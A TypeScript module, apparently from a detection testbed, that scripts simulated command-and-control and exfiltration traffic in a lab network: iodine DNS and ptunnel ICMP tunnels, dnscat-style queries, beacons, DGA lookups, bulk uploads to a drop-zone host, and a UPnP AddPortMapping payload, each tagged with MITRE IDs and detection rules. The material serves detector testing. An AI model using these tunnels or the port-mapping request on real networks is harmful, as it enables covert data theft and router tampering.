/** Ways out: tunnels in DNS and ICMP, beacons, generated names, dead servers, and bulk. */
import { setTimeout as sleep } from 'node:timers/promises';
import { Agent } from '../agent.ts';
import type { Attack } from '../attack.ts';
import type { Day } from '../day.ts';

/** Far from what homes resolve: an address without a name. */
const iodine: Attack = {
  name: 'iodine',
  technique: 'T1071.004',
  rules: ['dns-tunnel'],
  also: ['traffic-burst', 'exfiltration'],
  needs: ['iodine', 'iodined'],
  async run(day) {
    const { lab, tunnelServer, tunnelZone, router } = day.house;
    const bot = day.thing();
    lab.quiet('internet', ['mkdir', '-p', '/dev/net']);
    const server = lab.start('internet', [
      'iodined',
      '-f',
      '-c',
      '-P',
      'secret',
      '-l',
      tunnelServer,
      '-d',
      'tun7',
      '10.77.0.1',
      tunnelZone,
    ]);
    await sleep(600);
    const client = lab.start(bot.name, [
      'iodine',
      '-f',
      '-r',
      '-P',
      'secret',
      '-d',
      'tun7',
      router.ip,
      tunnelZone,
    ]);
    for (
      let i = 0;
      i < 30 && !lab.quiet(bot.name, ['ip', 'addr', 'show', 'dev', 'tun7']).includes('10.77.0.');
      i++
    )
      await sleep(400);
    await lab.attempt(
      bot.name,
      ['ping', '-c', '25', '-i', '0.15', '-s', String(day.choices.int(300, 900)), '-W', '1', '10.77.0.1'],
      8000,
    );
    await lab.stop(client);
    await lab.stop(server);
    return {
      actors: [bot.mac, bot.ip],
      targets: [router.mac],
      filter: `udp and ether src ${bot.mac} and dst port 53`,
      tool: `iodine -r to ${tunnelZone} through the router's resolver, ping inside`,
    };
  },
};

/** Hex labels below one zone, several types in turn, as dnscat2 sends. */
const dnscat: Attack = {
  name: 'dnscat',
  technique: 'T1071.004',
  rules: ['dns-tunnel'],
  also: ['exfiltration', 'dga'],
  async run(day) {
    const { choices, house } = day;
    const bot = day.thing();
    const zone = `${choices.pick(['sync', 'ns1', 'cdn'])}-${choices.hex(2)}.example`;
    const count = choices.int(90, 200);
    const names = Array.from({ length: count }, () => {
      const data = choices.hex(choices.int(20, 56));
      return [...(data.match(/.{1,60}/g) ?? []), zone].join('.');
    });
    const half = count >>> 1;
    await bot.agent.do({
      do: 'ask',
      dns: house.router.ip,
      names: names.slice(0, half),
      type: 16,
      timeout: 0.3,
    });
    await day.skip(choices.int(20, 100));
    await bot.agent.do({
      do: 'ask',
      dns: house.router.ip,
      names: names.slice(half),
      type: choices.pick([5, 15, 16]),
      timeout: 0.3,
    });
    return {
      actors: [bot.mac, bot.ip],
      targets: [house.router.mac],
      filter: `udp and ether src ${bot.mac} and dst port 53`,
      tool: `${count} questions with hex labels below ${zone}, TXT, MX, CNAME (send/agent.py, as dnscat2 sends)`,
    };
  },
};

const icmpTunnel: Attack = {
  name: 'icmp-tunnel',
  technique: 'T1095',
  rules: ['icmp-tunnel'],
  also: ['traffic-burst', 'icmp-flood', 'exfiltration'],
  needs: ['ptunnel'],
  async run(day) {
    const { lab, dropZone } = day.house;
    const bot = day.resident();
    lab.run('internet', ['sysctl', '-qw', 'net.ipv4.icmp_echo_ignore_all=1']);
    const server = lab.start('internet', ['ptunnel', '-c', 'eth0']);
    const client = lab.start(bot.name, [
      'ptunnel',
      '-p',
      dropZone,
      '-lp',
      '8000',
      '-da',
      dropZone,
      '-dp',
      '8081',
    ]);
    await sleep(800);
    for (let i = 0; i < 3; i++) {
      void bot.agent.do({ do: 'raw', host: '127.0.0.1', port: 8000, up: day.choices.int(15_000, 60_000) });
      await sleep(2200);
    }
    await lab.stop(client);
    await lab.stop(server);
    lab.run('internet', ['sysctl', '-qw', 'net.ipv4.icmp_echo_ignore_all=0']);
    return {
      actors: [bot.mac, bot.ip],
      targets: [dropZone],
      filter: `icmp and ether src ${bot.mac} and dst host ${dropZone}`,
      tool: 'ptunnel with data inside',
    };
  },
};

interface BeaconShape {
  /** Share of the interval by which one may be early or late. */
  readonly jitter: number;
  readonly do: 'raw' | 'http';
}

/** Connections to an address without a name. Between them time is inserted. */
function beacon(name: string, { jitter, do: how }: BeaconShape): Attack {
  return {
    name,
    technique: 'T1071.001',
    rules: ['beaconing'],
    async run(day) {
      const { choices, house } = day;
      const bot = day.thing();
      const period = choices.int(30, 300);
      const port = how === 'http' ? 443 : choices.pick([8081, 21212]);
      const count = choices.int(26, 40);
      for (let i = 0; i < count; i++) {
        await bot.agent.do({
          do: how,
          host: house.dropZone,
          port,
          sni: '',
          up: choices.int(60, 90),
          path: '/b',
        });
        const factor = 1 + jitter * (2 * choices.next() - 1);
        await day.skip(period * factor);
      }
      return {
        actors: [bot.mac, bot.ip],
        targets: [house.dropZone],
        filter: `tcp and ether src ${bot.mac} and dst host ${house.dropZone} and dst port ${port}`,
        tool: `${count} connections every ${period} s, jitter ${Math.round(jitter * 100)} % (time inserted)`,
      };
    },
  };
}

/** One connection that is kept, with a small message now and then. */
const heartbeat: Attack = {
  name: 'c2-heartbeat',
  technique: 'T1071',
  rules: ['heartbeat', 'beaconing'],
  async run(day) {
    const { choices, house } = day;
    const bot = day.thing();
    const port = choices.pick([4444, 48101, 6667, 1337]);
    const period = choices.int(25, 110);
    const count = choices.int(30, 45);
    for (let i = 0; i < count; i++) {
      await bot.agent.do({ do: 'keep', name: 'c2', host: house.dropZone, port, up: 4 + choices.int(0, 4) });
      await day.skip(period * (0.97 + 0.06 * choices.next()));
    }
    return {
      actors: [bot.mac, bot.ip],
      targets: [house.dropZone],
      filter: `tcp and ether src ${bot.mac} and dst host ${house.dropZone} and dst port ${port}`,
      tool: `one connection to port ${port}, a message every ${period} s (time inserted)`,
    };
  },
};

/** A server that was taken down, and malware that does not know. */
const storm: Attack = {
  name: 'dead-c2',
  technique: 'T1071',
  rules: ['connection-storm'],
  also: ['beaconing'],
  async run(day) {
    const { choices } = day;
    const bot = day.thing();
    const target = `203.0.113.${choices.int(200, 250)}`;
    const port = choices.pick([23, 6667, 48101, 9999]);
    const count = choices.int(45, 70);
    for (let i = 0; i < count; i++) {
      await bot.agent.do({ do: 'probe', targets: [[target, port]], wait: 0.05 });
      await day.skip(choices.int(10, 25));
    }
    return {
      actors: [bot.mac, bot.ip],
      targets: [target],
      filter: `tcp and ether src ${bot.mac} and dst host ${target}`,
      tool: `${count} attempts at ${target} port ${port}, which never answers (time inserted)`,
    };
  },
};

const CONSONANTS = 'bcdfghjklmnpqrstvwxz';
const dga: Attack = {
  name: 'dga',
  technique: 'T1568.002',
  rules: ['dga'],
  async run(day) {
    const { choices, house } = day;
    const bot = day.thing();
    const letters = (length: number): string =>
      Array.from({ length }, () => choices.pick([...CONSONANTS, 'a', 'e', 'o', '7'])).join('');
    const names = Array.from(
      { length: choices.int(40, 90) },
      () => `${letters(choices.int(9, 16))}.${choices.pick(['com', 'net', 'info', 'biz'])}`,
    );
    await bot.agent.do({ do: 'ask', dns: house.router.ip, names, pause: 0.04 });
    return {
      actors: [bot.mac, bot.ip],
      targets: [house.router.mac],
      filter: `udp and ether src ${bot.mac} and dst port 53`,
      tool: `${names.length} names that do not exist (send/agent.py)`,
    };
  },
};

function exfiltration(name: string, parts: number, pause: (day: Day) => number): Attack {
  return {
    name,
    technique: 'T1048',
    rules: ['exfiltration'],
    also: ['volume-spike', 'traffic-burst', 'beaconing'],
    async run(day) {
      const { choices, house } = day;
      const bot = day.resident();
      const port = choices.pick([8081, 21212]);
      const up = Math.round((choices.int(60, 80) * 1e6) / parts);
      for (let i = 0; i < parts; i++) {
        await bot.agent.do({ do: 'raw', host: house.dropZone, port, up });
        if (i + 1 < parts) await day.skip(pause(day));
      }
      return {
        actors: [bot.mac, bot.ip],
        targets: [house.dropZone],
        filter: `tcp and ether src ${bot.mac} and dst host ${house.dropZone} and dst port ${port}`,
        tool: `${parts} × ${up} bytes over TCP to an address without a name`,
      };
    },
  };
}

const MAPPING =
  '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>PORT</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>PORT</NewInternalPort><NewInternalClient>CLIENT</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>x</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>';

const portMapping: Attack = {
  name: 'upnp-port-mapping',
  technique: 'T1133',
  rules: ['port-mapping'],
  async run(day) {
    const { lab, router } = day.house;
    const bot = day.thing();
    await new Agent(lab, 'router').do({ do: 'serve', kind: 'http', port: 5000 });
    const port = String(day.choices.pick([23, 80, 554, 8080]));
    await bot.agent.do({
      do: 'http',
      host: router.ip,
      port: 5000,
      tls: false,
      path: '/ctl/IPConn',
      headers: {
        SOAPAction: '"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"',
        'Content-Type': 'text/xml',
      },
      body: MAPPING.replaceAll('PORT', port).replace('CLIENT', bot.ip),
    });
    return {
      actors: [bot.mac, bot.ip],
      targets: [router.mac, router.ip],
      filter: `tcp and ether src ${bot.mac} and dst port 5000`,
      tool: `AddPortMapping for port ${port} (send/agent.py, to a web server that accepts anything)`,
    };
  },
};

export const CHANNELS: readonly Attack[] = [
  iodine,
  dnscat,
  icmpTunnel,
  beacon('beacon', { jitter: 0.02, do: 'raw' }),
  beacon('beacon-jitter', { jitter: 0.25, do: 'raw' }),
  beacon('beacon-tls', { jitter: 0.1, do: 'http' }),
  heartbeat,
  storm,
  dga,
  exfiltration('exfiltration', 1, () => 0),
  exfiltration('exfiltration-slow', 12, ({ choices }) => choices.int(120, 500)),
  portMapping,
];
